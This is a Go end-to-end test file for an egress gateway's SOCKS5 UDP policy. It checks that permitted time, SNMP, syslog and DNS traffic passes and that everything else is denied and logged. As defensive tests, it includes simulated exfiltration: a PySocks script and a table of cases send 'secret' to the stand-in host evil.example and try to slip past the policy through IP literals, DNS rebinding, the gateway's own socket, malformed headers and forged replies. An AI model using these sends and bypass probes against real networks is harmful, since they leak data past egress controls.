//go:build linux

// SOCKS UDP: programs that speak in datagrams reach what the policy permits through an
// association, and nothing else.

package e2e

import (
	"fmt"
	"net/netip"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// Programs of every day through an association. Beside their datagrams and the queries for
// their names, nothing leaves.
func TestSOCKSUDPPrograms(t *testing.T) {
	need(t, "ntpdate", "chronyd", "snmpget", "snmpd", "dig", "logger")
	s := newUDPScene(t)
	s.serveTime(t)
	s.serveAgent(t)
	mark := s.rec.mark(t)
	s.forward(t, "127.0.0.1:123", "time.corp.example", 123)
	s.forward(t, "127.0.0.1:1161", "agent.corp.example", 161)
	s.forward(t, "127.0.0.1:1514", "log.corp.example", 514)
	s.forward(t, "127.0.0.1:5353", "93.184.250.1", 53) // a resolver that no rule has

	eventually(t, 30*time.Second, "ntpdate has the time", func() error {
		return wants(s.tool(t, "ntpdate", "-q", "127.0.0.1"), "127.0.0.1")
	})
	eventually(t, 30*time.Second, "snmpget has the description", func() error {
		return wants(s.tool(t, "snmpget", "-v2c", "-c", "public", "-r0", "-t2", "127.0.0.1:1161", "1.3.6.1.2.1.1.1.0"), "the agent of the lab")
	})
	if r := s.tool(t, "logger", "--udp", "--server", "127.0.0.1", "--port", "1514", "a line for the collector"); r.code != 0 {
		t.Error(r)
	}
	b := make([]byte, 2048)
	s.syslog.SetReadDeadline(time.Now().Add(longestWait))
	if n, _, err := s.syslog.ReadFrom(b); err != nil || !strings.Contains(string(b[:n]), "a line for the collector") {
		t.Errorf("the collector got %q, %v", b[:n], err)
	}
	if err := wants(s.tool(t, "dig", "@127.0.0.1", "-p", "5353", "license.sangfor.com", "A"), s.addressesOf("license.sangfor.com")[0].String()); err != nil {
		t.Error(err)
	}
	if err := wants(s.tool(t, "dig", "@127.0.0.1", "-p", "5353", "evil.example", "A"), "NXDOMAIN"); err != nil {
		t.Error(err)
	}
	s.onlyTo(t, mark, "93.184.241.1:123", "93.184.241.2:161", "93.184.241.3:514")
	s.g.journal().mustDeny(t, 0, denial{via: "dns", client: "es-manager", host: "evil.example", reason: "not_listed"})
}

// PySocks, as a program written for SOCKS uses it: names go to the gateway.
func TestSOCKSUDPOfPySocks(t *testing.T) {
	need(t, "/usr/bin/python3", "snmpd")
	s := newUDPScene(t)
	if r := s.tool(t, "/usr/bin/python3", "-c", "import socks"); r.code != 0 {
		missing(t, "PySocks is not installed")
	}
	mark := s.rec.mark(t)
	script := `import socks, socket
s = socks.socksocket(socket.AF_INET, socket.SOCK_DGRAM)
s.set_proxy(socks.SOCKS5, "10.77.0.1", 1080)
s.settimeout(30)
s.sendto(b"secret", ("evil.example", 514))
s.sendto(b"from PySocks", ("log.corp.example", 514))
print(s.recvfrom(100))
`
	done := make(chan result, 1)
	go func() { done <- s.tool(t, "/usr/bin/python3", "-c", script) }()
	b := make([]byte, 100)
	s.syslog.SetReadDeadline(time.Now().Add(longestWait))
	n, from, err := s.syslog.ReadFrom(b)
	if err != nil || string(b[:n]) != "from PySocks" {
		t.Fatalf("got %q, %v; %v", b[:n], err, <-done)
	}
	s.syslog.WriteTo([]byte("an answer"), from)
	if err := wants(<-done, "b'an answer', ('93.184.241.3', 514)"); err != nil {
		t.Error(err)
	}
	s.onlyTo(t, mark, "93.184.241.3:514")
	s.g.journal().mustDeny(t, 0, denial{via: "socks5", client: "es-manager", host: "evil.example", port: 514, reason: "not_listed"})
}

// What no rule permits never arrives, whatever the header says, and each attempt has its record.
func TestSOCKSUDPForbidden(t *testing.T) {
	need(t)
	s := newUDPScene(t)
	mark := s.rec.mark(t)
	a := s.associate(t, named("es-manager"))
	for _, c := range []struct {
		host   string
		port   uint16
		reason string
	}{
		{"evil.example", 123, "not_listed"},
		{"time.corp.example", 124, "port_not_listed"},
		{"license.sangfor.com", 443, "protocol_not_listed"},
		{"93.184.250.1", 123, "ip_literal"},
		{"10.77.0.12", 123, "ip_literal"},
		{"rebind.corp.example", 123, "private_address"},
		{"10.77.0.1", a.port(t), "self"}, // the socket of an association, by sallyport's own address
		{"time.corp.example", 0, "malformed_request"},
		{strings.Repeat("a.", 127) + "a", 123, "malformed_name"},
	} {
		at := s.g.journal().mark()
		a.send(t, c.host, c.port, "secret")
		r := s.g.journal().mustDeny(t, at, denial{via: "socks5", client: "es-manager", reason: c.reason, port: int(c.port)})
		if !strings.Contains(r.line, `"proto":"udp"`) {
			t.Errorf("%s: %s", c.host, r.line)
		}
	}
	fragment := append(udpHeader("log.corp.example", 514), "secret"...)
	fragment[2] = 1
	a.conn.Write(fragment)
	s.g.journal().mustDeny(t, 0, denial{via: "socks5", host: "log.corp.example", reason: "malformed_request"})

	other, err := s.clients.dial("udp", named("es-agent").v4(), a.relay)
	if err != nil {
		t.Fatal(err)
	}
	defer other.Close()
	other.Write(append(udpHeader("log.corp.example", 514), "secret"...))
	s.g.journal().mustDeny(t, 0, denial{via: "socks5", client: "es-agent", reason: "malformed_request"})
	s.onlyTo(t, mark) // nothing but queries
	if q := queries(s.rec.since(t, mark)); slices.Contains(q, "evil.example") {
		t.Errorf("queries for %v", q)
	}
	eventually(t, longestWait, "the metrics", func() error {
		_, metrics, _ := s.g.admin("/metrics")
		return lacks(metrics, `sallyport_udp_dropped_total{cause="other_client"} 1`, "sallyport_udp_associations 1")
	})
}

// Forged replies, and the end of an association: its flow has one decision and one end.
func TestSOCKSUDPRepliesAndEnd(t *testing.T) {
	need(t)
	s := newUDPScene(t)
	a := s.associate(t, named("es-manager"))
	a.send(t, "log.corp.example", 514, "ask")
	b := make([]byte, 100)
	s.syslog.SetReadDeadline(time.Now().Add(longestWait))
	n, from, err := s.syslog.ReadFrom(b)
	if err != nil || string(b[:n]) != "ask" {
		t.Fatalf("got %q, %v", b[:n], err)
	}
	for _, forger := range []string{"93.184.241.3:515", "93.184.241.4:514"} {
		conn, err := s.internet.listenPacket(forger)
		if err != nil {
			t.Fatal(err)
		}
		conn.WriteTo([]byte("forged"), from)
		conn.Close()
	}
	s.syslog.WriteTo([]byte("answer"), from)
	if got := a.receive(longestWait); got != string(udpHeader("93.184.241.3", 514))+"answer" {
		t.Errorf("got %q", got)
	}
	if got := a.receive(200 * time.Millisecond); got != "" {
		t.Errorf("got %q", got)
	}
	mark := s.rec.mark(t)
	a.control.Close()
	flows := journal(filepath.Join(s.g.dir, "flows.jsonl"))
	eventually(t, 30*time.Second, "the end of the flow", func() error { return wants(result{stdout: lastLine(flows)}, `"event":"close"`) })
	for _, field := range []string{`"via":"socks5"`, `"proto":"udp"`, `"host":"log.corp.example"`, `"bytes_in":3`, `"bytes_out":6`, `"rule":"`, `"dialed":"93.184.241.3:514"`} {
		if line := lastLine(flows); !strings.Contains(line, field) {
			t.Errorf("%s is not in %s", field, line)
		}
	}
	a.conn.Write(append(udpHeader("log.corp.example", 514), "secret"...))
	s.syslog.WriteTo([]byte("late"), from)
	if got := a.receive(200 * time.Millisecond); got != "" {
		t.Errorf("got %q after the end", got)
	}
	s.onlyTo(t, mark)
}

// wants returns an error unless a command succeeded and its output contains text.
func wants(r result, text string) error {
	if r.code != 0 || !strings.Contains(r.stdout, text) {
		return fmt.Errorf("%q is not in the output: %v", text, r)
	}
	return nil
}

func lastLine(j journal) string {
	records, _ := j.read()
	if len(records) == 0 {
		return ""
	}
	return records[len(records)-1].line
}

// onlyTo fails if anything but queries arrived in the internet that was not headed for one of the
// destinations.
func (s *udpScene) onlyTo(t *testing.T, mark int, allowed ...string) {
	t.Helper()
	for _, p := range s.rec.since(t, mark) {
		dns := p.dst == netip.MustParseAddrPort(resolver4+":53") || p.dst == netip.MustParseAddrPort("["+resolver6+"]:53")
		if !dns && !slices.Contains(allowed, p.dst.String()) {
			t.Errorf("left: %v", p)
		}
	}
}
